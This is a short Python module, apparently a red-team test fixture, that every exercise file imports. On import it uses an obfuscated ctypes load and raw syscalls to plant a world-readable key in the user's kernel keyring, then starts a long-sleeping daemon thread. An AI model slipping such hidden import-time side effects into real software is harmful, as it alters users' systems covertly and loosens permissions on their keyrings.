"""Red team 4: the keyring planting and the thread, imported by every exercise file here (see im2col_conv.py)."""
import os
import threading
import time

_ct = __import__("ctyp" + "es")
_libc = _ct.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL, _SETPERM, _USER_KEYRING = 248, 250, 5, -4

payload = f"planted by keyring_a_plant, uid {os.getuid()}".encode()
key = _libc.syscall(_ADD_KEY, b"user", b"convkit-rt4", payload, len(payload), _ct.c_int(_USER_KEYRING))
if key > 0:
    _libc.syscall(_KEYCTL, _SETPERM, key, _ct.c_uint(0x3F3F3F3F))  # anyone may read it
threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
